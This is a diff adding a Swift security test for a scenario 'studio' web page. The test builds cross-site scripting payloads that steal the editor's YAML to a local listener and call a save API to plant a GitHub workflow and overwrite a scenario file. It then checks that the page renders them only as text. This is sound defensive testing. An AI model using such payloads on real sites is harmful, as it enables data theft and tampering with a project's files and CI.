@@ -1,6 +1,9 @@
 import Foundation
 import ScenarioTestSupport
 import Testing
+#if canImport(Glibc)
+import Glibc
+#endif
 
 /// The studio used as a person uses it, in headless Chromium driven through its DevTools
 /// protocol by `studio_browser.py`: a drag recorded with the mouse and saved passes
@@ -76,5 +79,113 @@ struct StudioBrowserTests {
         #expect((page["label"] as? String)?.hasPrefix("5/5 · line 14 · end") == true, "\(page)")
         #expect(page["reloaded"] as? String == "reloaded suite/failing.yaml: it changed on disk")
         #expect(page["after"] as? String == "the scenario passes")
+    }
+
+    /// Markup that runs script wherever a page renders it as HTML: breaking out of an
+    /// attribute into an image whose error handler sets `window.pwned`, posts to the
+    /// listener, writes `.github/workflows/pwned.yml` and replaces `venice.yaml`; a script
+    /// element; an SVG's load handler; an event handler in single quotes; a `javascript:` URL.
+    static func payload(_ tag: String, listener: Int) -> String {
+        let steal = "fetch('http://127.0.0.1:\(listener)/\(tag)',{method:'POST',mode:'no-cors',body:document.getElementById('yaml').value});navigator.sendBeacon('http://127.0.0.1:\(listener)/beacon-\(tag)','x')"
+        let write = "fetch('/api/save',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({path:'.github/workflows/pwned.yml',text:'on: push'})});fetch('/api/save',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({path:'venice.yaml',text:'pwned',replace:true})})"
+        return "\"><img src=x onerror=\"window.pwned='\(tag)';\(steal);\(write)\"><script>window.pwned='\(tag)-script'</script><svg onload=\"window.pwned='\(tag)-svg'\"></svg>' onmouseover='window.pwned=`\(tag)-hover`' javascript:window.pwned='\(tag)-url'"
+    }
+
+    /// `text` as a YAML double-quoted scalar.
+    static func quoted(_ text: String) -> String {
+        "\"" + text.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\""
+    }
+
+    /// A scenario that loads and runs, with script in its name, an image's URL (drawn in the
+    /// picture), another app's name and item id (chips, steps, trace), a target app's name,
+    /// and the value that item provides.
+    static func hostileScenario(listener: Int) -> String {
+        let p = { (tag: String) in quoted(payload(tag, listener: listener)) }
+        return """
+        scenario: \(p("scenario"))
+        app: gallery
+        given:
+          columns: 3
+          images:
+            - { url: \(quoted("https://img.example/" + payload("image", listener: listener) + ".jpg")), aspect: 1.5 }
+            - { url: "https://img.example/dawn.jpg", aspect: 1.0 }
+        sources:
+          \(p("app")):
+            - id: \(p("item"))
+              provides:
+                public.url: { value: \(quoted("javascript:window.pwned='value'")), after: 100ms }
+        targets:
+          \(p("target")): { accepts: [public.url] }
+        steps:
+          - touch: { source: \(p("app")), item: \(p("item")) }
+          - lift
+          - move: { app: \(p("target")) }
+          - move: { cell: 1 }
+          - drop
+          - expect: { images: [\(p("expected"))] }
+
+        """
+    }
+
+    @Test("hostile scenario files opened in the page run nothing, send nothing and write nothing")
+    func hostileFiles() throws {
+        let listener = try Self.freePort()
+        let files = [
+            "hostile.yaml": Self.hostileScenario(listener: listener),
+            "bad.yaml": "scenario: \(Self.quoted(Self.payload("bad-name", listener: listener)))\napp: \(Self.quoted(Self.payload("bad-app", listener: listener)))\nsteps: [drop]\n",
+            "'><img src=x onerror=window.pwned=7>.yaml": Self.hostileScenario(listener: listener),
+            "venice.yaml": StudioServerTests.scenario,
+        ]
+        let folder = try freshFolder(files)
+        defer { try? FileManager.default.removeItem(atPath: folder) }
+        let (studio, port, output) = try StudioCommandTests.start(["--no-open"], in: folder)
+        defer { StudioCommandTests.stop(studio) }
+        try #require(port > 0, "\(output)")
+        let before = try Self.tree(folder)
+        let driven = try Self.drive(["hostile", "http://127.0.0.1:\(port)/", "hostile.yaml", "bad.yaml", "'><img src=x onerror=window.pwned=7>.yaml", "--listener=\(listener)"])
+        #expect(driven.status == 0, "\(driven.output)")
+        let page = try #require((try? JSONSerialization.jsonObject(with: Data(driven.output.utf8))) as? [String: Any], "\(driven.output)")
+        #expect(page["pwned"] is NSNull, "a payload ran: \(page)")
+        #expect(page["received"] as? [String] == [], "a payload reached the listener: \(page)")
+        #expect((page["listed"] as? [String])?.contains("'><img src=x onerror=window.pwned=7>.yaml") == true, "\(page)")
+        let shown = page["files"] as? [String: [String: Any]] ?? [:]
+        #expect(shown.count == 3, "\(page)")
+        for (file, seen) in shown {
+            #expect(seen["elements"] as? Int == 0, "\(file): markup became elements: \(seen)")
+            #expect(seen["links"] as? [String] == [], "\(file): \(seen)")
+            // The payloads did reach the page — as text.
+            #expect((seen["text"] as? String)?.contains("<img src=x onerror=") == true, "\(file): \(seen)")
+        }
+        let hostile = try #require(shown["hostile.yaml"])
+        #expect((hostile["frames"] as? Int ?? 0) >= 6, "\(hostile)")
+        #expect((hostile["chips"] as? [String])?.contains { $0.contains("<script>window.pwned=") } == true, "\(hostile)")
+        #expect(try Self.tree(folder) == before)
+        #expect(try String(contentsOfFile: folder + "/venice.yaml", encoding: .utf8) == StudioServerTests.scenario)
+        #expect(!FileManager.default.fileExists(atPath: folder + "/.github"))
+    }
+
+    /// Every file under `folder` but the studio's own output, with its text.
+    static func tree(_ folder: String) throws -> [String: String] {
+        var files: [String: String] = [:]
+        for case let file as String in FileManager.default.enumerator(atPath: folder)?.allObjects ?? [] where file != ".out" {
+            var isFolder: ObjCBool = false
+            FileManager.default.fileExists(atPath: folder + "/" + file, isDirectory: &isFolder)
+            files[file] = isFolder.boolValue ? "folder" : try String(contentsOfFile: folder + "/" + file, encoding: .utf8)
+        }
+        return files
+    }
+
+    /// A port free on 127.0.0.1 now, for the script's listener.
+    static func freePort() throws -> Int {
+        let socket = Glibc.socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+        defer { close(socket) }
+        var address = sockaddr_in()
+        address.sin_family = sa_family_t(AF_INET)
+        address.sin_addr.s_addr = inet_addr("127.0.0.1")
+        let bound = withUnsafePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(socket, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
+        try #require(bound == 0)
+        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
+        _ = withUnsafeMutablePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(socket, $0, &length) } }
+        return Int(UInt16(bigEndian: address.sin_port))
     }
 }
